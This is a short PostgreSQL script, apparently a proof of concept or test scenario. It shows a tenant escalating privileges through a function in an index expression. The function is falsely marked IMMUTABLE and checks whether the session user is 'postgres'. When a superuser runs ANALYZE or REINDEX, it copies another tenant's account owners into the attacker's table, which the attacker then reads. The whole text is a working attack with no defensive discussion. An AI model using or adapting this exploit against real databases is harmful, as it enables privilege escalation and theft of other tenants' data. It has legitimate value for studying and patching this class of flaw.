-- A superuser maintains the attacker's table: REINDEX and ANALYZE run functions of index expressions.
CREATE TABLE stolen (what text);
CREATE FUNCTION steals() RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO tenant_alpha.stolen SELECT owner FROM tenant_beta.accounts; RETURN 1; END $$;
CREATE FUNCTION spies(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    IF session_user = 'postgres' THEN
        PERFORM tenant_alpha.steals();
    END IF;
    RETURN $1;
END
$$;
CREATE INDEX ON accounts (spies(id));
-- @session operator
ANALYZE tenant_alpha.accounts;
REINDEX TABLE tenant_alpha.accounts;
-- @session attacker
TABLE stolen;
